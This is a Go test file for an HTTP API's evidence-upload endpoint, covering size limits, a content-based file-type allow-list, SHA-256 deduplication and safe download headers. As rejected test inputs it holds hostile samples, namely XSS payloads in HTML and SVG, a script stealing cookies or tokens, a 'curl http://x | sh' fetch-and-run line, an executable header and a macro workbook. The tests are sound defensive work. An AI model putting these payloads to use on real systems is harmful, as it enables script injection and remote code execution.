package httpapi

import (
	"archive/zip"
	"bytes"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// multipartBody is a form with one file part (and a text field before
// it, as browsers send).
func multipartBody(t *testing.T, name string, data []byte) (string, []byte) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	mw.WriteField("note", "bukti")
	fw, err := mw.CreateFormFile("file", name)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(data)
	mw.Close()
	return mw.FormDataContentType(), b.Bytes()
}

func textOf(n int) []byte {
	return bytes.Repeat([]byte("0123456789abcde\n"), n/16+1)[:n]
}

// evidenceFiles lists the evidence directory.
func (h *harness) evidenceFiles() []string {
	h.t.Helper()
	ents, err := os.ReadDir(filepath.Join(h.dataDir, "evidence"))
	if err != nil && !os.IsNotExist(err) {
		h.t.Fatal(err)
	}
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	return out
}

// TestEvidenceSizeLimitReload: auth.max_evidence_bytes changed while
// running (a reload) applies to the next upload.
func TestEvidenceSizeLimitReload(t *testing.T) {
	h := newHarness(t, nil) // limit 4096
	// auth.max_evidence_bytes reloaded: 4097 bytes fit under 8192, and
	// 4096 no longer under 2048
	h.rc.SetMaxEvidenceBytes(8192)
	if code, body := h.do("POST", "/api/v1/evidence?filename=log.txt", "operator", textOf(4097)); code != 201 {
		t.Errorf("limit raised to 8192: %d %s", code, body)
	}
	h.rc.SetMaxEvidenceBytes(2048)
	if code, body := h.do("POST", "/api/v1/evidence?filename=log.txt", "operator", textOf(4096)); code != 413 || !strings.Contains(body, "larger than 2048 bytes") {
		t.Errorf("limit lowered to 2048: %d %s", code, body)
	}
}

// TestEvidenceSizeLimit: a file of exactly auth.max_evidence_bytes is
// stored, one byte more is 413 naming the limit, raw or multipart; a
// much larger body without a length is not read to its end.
func TestEvidenceSizeLimit(t *testing.T) {
	h := newHarness(t, nil) // limit 4096
	for _, n := range []int{4096, 4097} {
		want := map[int]int{4096: 201, 4097: 413}[n]
		data := textOf(n)
		data[0] = byte('a' + n%26) // raw and multipart files differ
		code, body := h.do("POST", "/api/v1/evidence?filename=log.txt", "operator", data)
		if code != want || want == 413 && !strings.Contains(body, "larger than 4096 bytes (auth.max_evidence_bytes") {
			t.Errorf("raw %d bytes: %d %s", n, code, body)
		}
		data[0] = 'Z'
		ct, mp := multipartBody(t, "log.txt", data)
		code, body = h.send("POST", "/api/v1/evidence", "operator", ct, bytes.NewReader(mp))
		if code != want || want == 413 && !strings.Contains(body, "larger than 4096 bytes") {
			t.Errorf("multipart %d bytes: %d %s", n, code, body)
		}
	}
	// 64 MiB of text, chunked (no Content-Length): refused once the
	// limit is passed, long before the end is sent
	var sent atomic.Int64
	big := io.LimitReader(countingReader{r: zeroText{}, n: &sent}, 64<<20)
	req, _ := http.NewRequest("POST", h.url+"/api/v1/evidence?filename=big.txt", io.NopCloser(big))
	req.Header.Set("Authorization", "Bearer "+h.tok["operator"])
	resp, err := http.DefaultClient.Do(req)
	if err == nil {
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 413 || !strings.Contains(string(b), "4096") {
			t.Errorf("chunked 64 MiB: %d %s", resp.StatusCode, b)
		}
	} // else: the server closed the connection while the client wrote
	if n := sent.Load(); n >= 64<<20 {
		t.Errorf("the server read the whole 64 MiB body (%d bytes)", n)
	}
	files := h.evidenceFiles()
	if len(files) != 2 {
		t.Errorf("evidence directory holds %v, want the 2 files at the limit and no temporary files", files)
	}
}

type zeroText struct{}

func (zeroText) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

type countingReader struct {
	r io.Reader
	n *atomic.Int64
}

func (c countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

func zipOf(t testing.TB, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("<?xml version=\"1.0\"?><x/>"))
	}
	zw.Close()
	return b.Bytes()
}

var (
	pdfData  = []byte("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")
	pngData  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00")
	jpegData = []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9")
)

// TestEvidenceTypes: the allow-list, decided by content: HTML, SVG, XML
// and scripts disguised as .pdf (or as text) are refused with 415, as
// are a name whose extension disagrees with the content, other zips and
// documents with macros; nothing refused is left on disk.
func TestEvidenceTypes(t *testing.T) {
	h := newHarness(t, nil)
	for _, c := range []struct {
		name string
		data []byte
		want string // content type, "" for 415
	}{
		{"ba.pdf", pdfData, TypePDF},
		{"foto.png", pngData, TypePNG},
		{"foto.JPG", jpegData, TypeJPEG},
		{"catatan.txt", []byte("Modem diganti 20/11, uji ping 100% OK.\nlatency<5ms\n"), TypeText},
		{"tiket.csv", []byte("no,tiket,status\n1,INC-77,selesai\n"), TypeCSV},
		{"laporan.xlsx", zipOf(t, "[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"), TypeXLSX},
		{"ba.docx", zipOf(t, "[Content_Types].xml", "word/document.xml"), TypeDOCX},
		{"", pdfData[:20], TypePDF},

		{"bukti.pdf", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), ""},
		{"bukti.pdf", []byte("\n\n  <html><script>fetch('/api/v1/tokens')</script>"), ""},
		{"bukti.pdf", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), ""},
		{"bukti.pdf", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), ""},
		{"bukti.pdf", []byte("#!/bin/sh\ncurl http://x | sh\n"), ""},
		{"bukti.pdf", []byte("alert(document.cookie)\n"), ""}, // text named .pdf
		{"bukti.txt", []byte("hasil: <script>alert(1)</script>\n"), ""},
		{"bukti.txt", []byte("\xef\xbb\xbf<html>"), ""},
		{"bukti.txt", []byte("\xfe\xff\x00<\x00h\x00t\x00m\x00l\x00>"), ""}, // UTF-16 HTML
		{"bukti.txt", []byte("#!/usr/bin/env python3\nimport os\n"), ""},
		{"bukti.html", []byte("plain words\n"), ""},
		{"bukti.svg", pngData, ""},
		{"bukti.pdf", pngData, ""},
		{"bukti", pdfData, ""},
		{"bukti.exe", []byte("MZ\x90\x00\x03\x00\x00\x00"), ""},
		{"", []byte("MZ\x90\x00\x03\x00\x00\x00"), ""},
		{"bukti.zip", zipOf(t, "a.txt"), ""},
		{"bukti.xlsx", zipOf(t, "a.txt"), ""},
		{"makro.xlsx", zipOf(t, "[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), ""},
		{"bukti.docx", zipOf(t, "[Content_Types].xml", "xl/workbook.xml"), ""},
		{"bukti.gif", []byte("GIF89a\x01\x00\x01\x00"), ""},
	} {
		path := "/api/v1/evidence"
		if c.name != "" {
			path += "?filename=" + c.name
		}
		code, body := h.do("POST", path, "operator", c.data)
		if c.want == "" {
			if code != http.StatusUnsupportedMediaType || !strings.Contains(body, "file type not allowed") {
				t.Errorf("%s %q: %d %s, want 415", c.name, c.data, code, body)
			}
			continue
		}
		got := decode[evidenceOut](t, body)
		if code != 201 || got.ContentType != c.want {
			t.Errorf("%s: %d %s, want %s", c.name, code, body, c.want)
		}
		if c.name == "" && !strings.HasPrefix(got.Filename, "evidence-") {
			t.Errorf("unnamed file named %q", got.Filename)
		}
	}
	if files := h.evidenceFiles(); len(files) != 8 {
		t.Errorf("evidence directory holds %d files, want the 8 accepted: %v", len(files), files)
	}
}

// TestEvidenceServeAndDedupe: a file is served as an attachment with
// nosniff, a sandboxing CSP and its stored type; the same content twice
// is stored once (the second upload says duplicate); a follow-up may
// close with it as evidence.
func TestEvidenceServeAndDedupe(t *testing.T) {
	h := newHarness(t, nil)
	ct, mp := multipartBody(t, `C:\Users\noc\BA "serah" terima.pdf`, pdfData)
	code, body := h.send("POST", "/api/v1/evidence", "operator", ct, bytes.NewReader(mp))
	first := decode[evidenceOut](t, body)
	if code != 201 || first.Duplicate || first.Size != int64(len(pdfData)) || first.Filename != "BA serah terima.pdf" || len(first.SHA256) != 64 {
		t.Fatalf("first upload: %d %s", code, body)
	}
	code, body = h.do("POST", "/api/v1/evidence?filename=lagi.pdf", "admin", pdfData)
	second := decode[evidenceOut](t, body)
	if code != 200 || !second.Duplicate || second.SHA256 != first.SHA256 || second.Filename != first.Filename {
		t.Errorf("second upload: %d %s", code, body)
	}
	if files := h.evidenceFiles(); len(files) != 1 || files[0] != first.SHA256 {
		t.Errorf("evidence directory: %v", files)
	}

	req, _ := http.NewRequest("GET", h.url+"/api/v1/evidence/"+strings.ToUpper(first.SHA256), nil)
	req.Header.Set("Authorization", "Bearer "+h.tok["viewer"])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	hd := resp.Header
	if resp.StatusCode != 200 || !bytes.Equal(got, pdfData) {
		t.Errorf("GET: %d %q", resp.StatusCode, got)
	}
	for k, want := range map[string]string{
		"Content-Type":            TypePDF,
		"Content-Disposition":     `attachment; filename="BA serah terima.pdf"`,
		"X-Content-Type-Options":  "nosniff",
		"Content-Security-Policy": "default-src 'none'; sandbox",
	} {
		if hd.Get(k) != want {
			t.Errorf("%s: %q, want %q", k, hd.Get(k), want)
		}
	}

	h.review("")
	fu := h.followUp(1)
	code, body = h.do("POST", "/api/v1/followups/1/updates", "operator",
		map[string]string{"date": "2026-11-20", "status": "selesai", "evidence": "SHA256:" + strings.ToUpper(first.SHA256)})
	if code != 200 || !strings.Contains(body, `"evidence":"sha256:`+first.SHA256) {
		t.Errorf("close with the file: %d %s", code, body)
	}
	list, _ := h.db.FollowUpsAsOf(h.ctx, "0000-00-00", "2026-12-31")
	if len(list) != 1 || list[0].ID != fu || list[0].Evidence != "sha256:"+first.SHA256 {
		t.Errorf("stored: %+v", list)
	}
}
